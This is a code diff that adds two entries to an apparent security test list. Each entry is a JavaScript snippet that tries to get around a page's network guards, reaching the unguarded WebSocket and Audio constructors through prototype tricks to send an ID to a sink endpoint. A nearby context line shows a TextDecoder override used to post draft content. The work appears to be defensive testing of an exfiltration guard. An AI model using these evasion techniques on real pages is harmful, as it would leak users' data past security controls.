@@ -105,6 +105,15 @@ const REPLACED: [label: string, code: string][] = [
     `const d0 = TextDecoder.prototype.decode; const bytes = new TextEncoder().encode('content=' + encodeURIComponent(draft)); TextDecoder.prototype.decode = function () { return 'ok'; };
      let p; try { p = fetch(sink('decode'), { method: 'POST', body: bytes }); } finally { TextDecoder.prototype.decode = d0; } await p;`,
   ],
+  [
+    'WebSocket.prototype.constructor: the unguarded WebSocket (raw)',
+    `const WS = WebSocket.prototype.constructor; const ws = new WS(RAW.replace('http', 'ws') + '/ws-ctor?c=' + ID); await new Promise((r) => setTimeout(r, 1000)); ws.close();`,
+  ],
+  [
+    'Object.getPrototypeOf(Audio): the unguarded Audio',
+    // (a plain browser's Audio has Function.prototype there: the page then takes Audio itself)
+    `const up = Object.getPrototypeOf(Audio); const A = up === Function.prototype ? Audio : up; const a = new A(sink('audio-ctor') + '?c=' + ID); a.preload = 'auto'; a.load(); await new Promise((r) => setTimeout(r, 1000));`,
+  ],
 ];
 
 /** Aimed at the hooks: without Precheck the page's own call sends the clean version, which must arrive with Precheck too. */
